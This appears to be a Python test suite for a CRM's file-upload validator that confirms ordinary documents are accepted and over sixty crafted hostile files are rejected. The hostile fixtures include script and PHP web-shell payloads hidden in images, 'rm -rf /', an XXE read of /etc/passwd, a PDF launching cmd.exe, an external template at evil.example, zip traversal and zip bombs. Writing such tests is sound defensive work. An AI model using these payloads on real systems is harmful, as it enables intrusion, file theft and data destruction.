"""What is let in, what is refused, and what looking into it costs."""

import io
import resource
import struct
import time
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.utils import translation
from PIL import Image

from crm.attachments.names import LONGEST, clean_name
from crm.attachments.receiving import FILES_AT_MOST, MAX_BYTES, received
from crm.attachments.storage import root
from tests.factories import files as made

GOOD = {
    "offer.pdf": (made.pdf, "application/pdf", (595, 842)),
    "logo.png": (made.picture, "image/png", (40, 30)),
    "photo.jpg": (lambda: made.picture("JPEG"), "image/jpeg", (40, 30)),
    "PHOTO.JPEG": (lambda: made.picture("JPEG"), "image/jpeg", (40, 30)),
    "moving.gif": (lambda: made.picture("GIF"), "image/gif", (40, 30)),
    "small.webp": (lambda: made.picture("WEBP"), "image/webp", (40, 30)),
    "phone.heic": (lambda: b"\0\0\0\x18ftypheic" + bytes(90), "image/heic", None),
    "letter.docx": (lambda: made.office("docx"), "wordprocessingml.document", None),
    "prices.xlsx": (lambda: made.office("xlsx"), "spreadsheetml.sheet", None),
    "talk.pptx": (lambda: made.office("pptx"), "presentationml.presentation", None),
    "old.doc": (lambda: made.old_office("WordDocument"), "application/msword", None),
    "old.xls": (lambda: made.old_office("Workbook"), "application/vnd.ms-excel", None),
    "old.ppt": (lambda: made.old_office("PowerPoint Document"), "application/vnd.ms-powerpoint", None),
    "说明.txt": (lambda: "上海客户要求周五前报价。".encode("gb18030"), "text/plain", None),
    "wide.txt": (lambda: "报价".encode("utf-16"), "text/plain", None),
    "list.csv": (lambda: "名称,电话\n甲,1\n".encode(), "text/csv", None),
    "notes.md": (lambda: b"# Notes\n\n<b>bold</b>\n", "text/markdown", None),
    "all.zip": (lambda: made.archive({"a/b.txt": "x", "合同.pdf": made.pdf()}), "application/zip", None),
    "mail.eml": (lambda: made.MAIL, "message/rfc822", None),
    "visit.mp4": (lambda: made.MP4, "video/mp4", None),
    "call.m4a": (lambda: made.MP4.replace(b"ftypmp42", b"ftypM4A "), "audio/mp4", None),
    "call.mp3": (lambda: b"ID3\x04" + bytes(300), "audio/mpeg", None),
    "合同.docx.pdf": (made.pdf, "application/pdf", (595, 842)),
    "www.acme.com.pdf": (made.pdf, "application/pdf", (595, 842)),
}


@pytest.fixture(scope="module", autouse=True)
def largest_before():
    """The largest child that tests of other files had, in kilobytes."""
    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss


def lying_archive():
    """A part that announces ten bytes and unpacks to a million."""
    raw = bytearray(made.archive({"a.txt": b"\0" * 1_000_000}))
    for mark, at in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        start = raw.index(mark) + at
        raw[start : start + 4] = struct.pack("<I", 10)
    return bytes(raw)


def many_entries():
    return made.archive({f"{number}.txt": "" for number in range(11_000)})


def locked_archive():
    raw = bytearray(made.office())
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := raw.find(mark, start)) >= 0:
            raw[start + at] |= 1
            start += 4
    return bytes(raw)


def overlapping():
    """Two entries of the list of contents that stand for the same packed bytes, thirty times over."""
    raw = made.archive({"a.txt": bytes(range(256)) * 400})
    start = raw.index(b"PK\x01\x02")
    end = raw.index(b"PK\x05\x06")
    entry = raw[start:end]
    close = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 30, 30, len(entry) * 30, start, 0)
    return raw[:start] + entry * 30 + close


def broken_sum():
    raw = bytearray(made.archive({"a.txt": "hello hello hello"}))
    raw[raw.index(b"PK\x01\x02") + 16] ^= 255
    raw[14] ^= 255
    return bytes(raw)


def gif_script():
    raw = bytearray(made.picture("GIF"))
    raw[6:8] = b"/*"
    return bytes(raw) + b"*/=1;alert(1)"


def jpeg_with_comment(text):
    raw = made.picture("JPEG")
    return raw[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + raw[2:]


EXTERNAL_TEMPLATE = (
    '<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    'attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
ENTITIES = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'

HOSTILE = {
    # kinds that are not kept
    "setup.exe": (lambda: b"MZ" + bytes(200), "forbidden"),
    "page.html": (lambda: b"<html><script>alert(1)</script>", "forbidden"),
    "logo.svg": (lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "forbidden"),
    "run.js": (lambda: b"alert(1)", "forbidden"),
    "run.bat": (lambda: b"del *.*", "forbidden"),
    "macro.docm": (lambda: made.office("docx"), "forbidden"),
    "book.xlsm": (lambda: made.office("xlsx"), "forbidden"),
    "shell.php": (lambda: b"<?php system('id');", "forbidden"),
    "disk.iso": (lambda: bytes(100) + b"CD001", "forbidden"),
    "no ending": (lambda: b"text", "no_name"),
    ".htaccess": (lambda: b"deny", "no_name"),
    "invoice.pdf\u202efdp.exe": (lambda: made.pdf(), "forbidden"),
    "trailing.exe. ": (lambda: b"MZ", "forbidden"),
    "photo.exe.jpg": (lambda: made.picture("JPEG"), "double_ending"),
    "offer.html.pdf": (lambda: made.pdf(), "double_ending"),
    # nothing, too much
    "empty.txt": (lambda: b"", "empty"),
    "blank.txt": (lambda: b" \r\n\0\0", "empty"),
    "big.zip": (lambda: bytes(MAX_BYTES + 1), "size"),
    # not what the name says
    "program.pdf": (lambda: b"MZ" + bytes(300), "mismatch"),
    "elf.jpg": (lambda: b"\x7fELF" + bytes(300), "mismatch"),
    "page.png": (lambda: b"<html><body>hi</body></html>", "mismatch"),
    "drawing.jpg": (lambda: b"<svg onload='alert(1)'/>", "mismatch"),
    "picture.png": (lambda: made.picture("JPEG"), "mismatch"),
    "archive.docx": (lambda: made.archive({"a.txt": "x"}), "mismatch"),
    "sheet.docx": (lambda: made.office("xlsx"), "mismatch"),
    "installer.doc": (lambda: made.old_office("SummaryInformation"), "mismatch"),
    "binary.txt": (lambda: bytes(range(256)), "mismatch"),
    "program.csv": (lambda: b"MZ this is text", "mismatch"),
    "plain.eml": (lambda: b"Just a text.", "mismatch"),
    "sound.mp3": (lambda: b"RIFF" + bytes(80), "mismatch"),
    "film.mp4": (lambda: b"\0\0\0\x18ftypqt  " + bytes(80), "mismatch"),
    "late.pdf": (lambda: b"<script>1</script>" + made.pdf(), "mismatch"),
    # web pages and scripts as text
    "page.txt": (lambda: b"  \n<!DOCTYPE html><script>alert(1)</script>", "web_page"),
    "drawing.md": (lambda: b"<svg onload=alert(1)>", "web_page"),
    "wide page.txt": (lambda: "<html><script>1</script>".encode("utf-16"), "web_page"),
    "script.csv": (lambda: b"#!/bin/sh\nrm -rf /\n", "web_page"),
    # two things at once
    "gifjs.gif": (gif_script, "two_in_one"),
    "gif page.gif": (lambda: made.picture("GIF") + b"<script>alert(1)</script>", "two_in_one"),
    "tail.png": (lambda: made.picture() + b"alert(1)//", "two_in_one"),
    "jpeg page.jpg": (lambda: jpeg_with_comment(b"<html><script>alert(1)</script>"), "two_in_one"),
    "php.jpg": (lambda: jpeg_with_comment(b"<?php system($_GET[0]); ?>"), "two_in_one"),
    "jar.jpg": (lambda: made.picture("JPEG") + made.archive({"a.class": "x"}), "two_in_one"),
    "pdfzip.pdf": (lambda: made.pdf() + made.archive({"a.txt": "x"}), "two_in_one"),
    "pdf page.pdf": (
        lambda: made.pdf().replace(b"%PDF-1.4\n", b"%PDF-1.4\n%<script >alert(1)</script>\n"),
        "two_in_one",
    ),
    # macros, programs, things loaded
    "vba.docx": (lambda: made.office("docx", **{"word__vbaProject.bin": "x"}), "macros"),
    "xlm.xlsx": (lambda: made.office("xlsx", **{"xl__macrosheets__sheet1.xml": "<x/>"}), "macros"),
    "macro.xls": (lambda: made.old_office("Workbook", "_VBA_PROJECT_CUR"), "macros"),
    "launch.pdf": (
        lambda: made.pdf().replace(b"/Catalog", b"/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>"),
        "program_inside",
    ),
    "tools.zip": (lambda: made.archive({"docs/setup.EXE": "MZ"}), "program_inside"),
    "worm.eml": (lambda: made.MAIL + b'Content-Type: a/b; name="invoice.pdf.js"\r\n', "program_inside"),
    "template.docx": (
        lambda: made.office("docx", **{"word___rels__settings.xml.rels": EXTERNAL_TEMPLATE}),
        "loads_more",
    ),
    "entities.xlsx": (lambda: made.office("xlsx", **{"xl__styles.xml": ENTITIES}), "loads_more"),
    "locked.docx": (locked_archive, "encrypted"),
    "locked too.docx": (lambda: made.old_office("EncryptedPackage"), "encrypted"),
    "locked.xls": (lambda: made.old_office("Workbook", "EncryptedPackage"), "encrypted"),
    # archives that write elsewhere, burst or lie
    "up.zip": (lambda: made.archive({"../../etc/cron.d/x": "x"}), "outside_path"),
    "up windows.zip": (lambda: made.archive({"..\\..\\x.txt": "x"}), "outside_path"),
    "root.zip": (lambda: made.archive({"/etc/passwd": "x"}), "outside_path"),
    "drive.zip": (lambda: made.archive({"C:\\x.txt": "x"}), "outside_path"),
    "bomb.zip": (lambda: made.bomb({}), "too_heavy"),
    "bomb.docx": (lambda: made.bomb({"[Content_Types].xml": "<x/>", "word/document.xml": "<x/>"}), "too_heavy"),
    "many.zip": (many_entries, "too_heavy"),
    "overlap.zip": (overlapping, "too_heavy"),
    "lying.zip": (lying_archive, "broken"),
    "sum.zip": (broken_sum, "broken"),
    "cut.zip": (lambda: made.archive({"a.txt": "x" * 5000})[:60], "broken"),
    # pictures and documents that hurt whoever opens them
    "pixels.png": (lambda: made.png_of(60_000, 60_000), "too_many_pixels"),
    "cut.png": (lambda: made.picture(size=(300, 300))[:80], "broken"),
    "holes.png": (lambda: made.png_of(300, 300), "broken"),
    "cut.jpg": (lambda: made.picture("JPEG", size=(900, 900))[:400], "broken"),
    "cut.gif": (lambda: made.picture("GIF")[:40], "broken"),
    "cut.pdf": (lambda: made.pdf()[:200], "broken"),
    "hollow.pdf": (lambda: b"%PDF-1.7\n%%EOF\n", "broken"),
}


@pytest.fixture(autouse=True)
def home(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def left_behind():
    return [path for path in root().rglob("*") if path.is_file()]


def named(name, content):
    """An upload whose name Django has not tidied."""
    file = made.upload("x", content)
    file._name = name
    return file


@pytest.mark.parametrize("name", GOOD)
def test_what_people_need_is_let_in(name):
    make, media_type, size = GOOD[name]
    with received([named(name, make())]) as (file,):
        assert file.name == name
        assert file.media_type.endswith(media_type)
        assert (file.width, file.height) == (size or (None, None))
        for picture in file.pictures.values() if size else ():
            with Image.open(picture) as drawn:
                assert drawn.format == "WEBP"
    assert left_behind() == []


@pytest.mark.parametrize("name", HOSTILE)
def test_what_could_hurt_is_refused_in_words_and_nothing_stays(name):
    from crm.attachments.receiving import _REFUSALS

    make, code = HOSTILE[name]
    content = make()
    began = time.monotonic()
    with pytest.raises(ValidationError) as refused, received([named(name, content)]):
        pytest.fail("let in")
    words = str(_REFUSALS[code]) % ({"limit": 20} if code == "size" else {})
    assert refused.value.message_dict["files"] == [f"{clean_name(name)[:80] or '?'}: {words}"]
    assert left_behind() == []
    assert time.monotonic() - began < 25


def test_at_least_sixty_hostile_files_are_tried():
    assert len(HOSTILE) >= 60


def test_looking_into_them_took_no_more_memory_than_the_child_may_have(largest_before):
    """The largest child of this process, after all files above, but for one that an earlier file of tests had."""
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss <= max(512 * 1024, largest_before)


def test_a_refused_file_refuses_all_and_every_reason_is_said():
    files = [named("a.txt", b"good"), named("b.exe", b"MZ"), named("c.pdf", b"MZ")]
    with pytest.raises(ValidationError) as refused, received(files):
        pytest.fail("let in")
    assert refused.value.message_dict["files"] == [
        "b.exe: Files of this kind are not kept here.",
        "c.pdf: The content is not what the ending of the name says.",
    ]
    assert left_behind() == []


def test_too_many_files_and_too_large_requests_are_refused():
    with (
        pytest.raises(ValidationError, match="at most 10 files"),
        received([named("a.txt", b"a")] * (FILES_AT_MOST + 1)),
    ):
        pass
    large = [named("a.zip", bytes(13 * 1024 * 1024)), named("b.zip", bytes(13 * 1024 * 1024))]
    with pytest.raises(ValidationError, match="larger than 24 MB"), received(large):
        pass


def test_pictures_carry_no_place_and_stand_upright():
    raw = made.photo_with_place()
    assert b"SecretCamera" in raw
    with received([named("visit.jpg", raw)]) as (file,):
        assert (file.width, file.height) == (40, 60)
        assert file.path.read_bytes() == raw
        for picture in file.pictures.values():
            assert b"SecretCamera" not in picture.read_bytes() and b"EXIF" not in picture.read_bytes()
            with Image.open(picture) as drawn:
                assert drawn.size == (40, 60)
                assert dict(drawn.getexif()) == {}


def test_large_pictures_are_drawn_in_two_sizes():
    with received([named("wall.jpg", made.picture("JPEG", size=(4000, 2000)))]) as (file,):
        sizes = {}
        for name, picture in file.pictures.items():
            with Image.open(picture) as drawn:
                sizes[name] = drawn.size
    assert sizes == {"large": (1600, 800), "small": (320, 160)}


def test_a_pdf_with_a_password_is_kept_without_a_picture():
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(made.pdf())))
    writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    with received([named("closed.pdf", out.getvalue())]) as (file,):
        assert (file.width, file.media_type) == (None, "application/pdf")


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\li\\报价 单.pdf", "报价 单.pdf"),
        ("a\x00b\r\nc.pdf", "abc.pdf"),
        ("in\u202evoice\u200b.pdf", "invoice.pdf"),
        ('a<b>:"c|d?e*.pdf', "a_b___c_d_e_.pdf"),
        ("CON.pdf", "_CON.pdf"),
        ("  two   words .pdf. ", "two words .pdf"),
        ("x" * 300 + ".pdf", "x" * (LONGEST - 4) + ".pdf"),
        ("合" * 300 + ".docx", "合" * (LONGEST - 5) + ".docx"),
        ("...", ""),
    ],
)
def test_names_are_made_harmless(given, kept):
    assert clean_name(given) == kept


def test_the_maker_of_archives_makes_good_ones():
    assert zipfile.ZipFile(io.BytesIO(made.archive({"a": "b"}))).testzip() is None
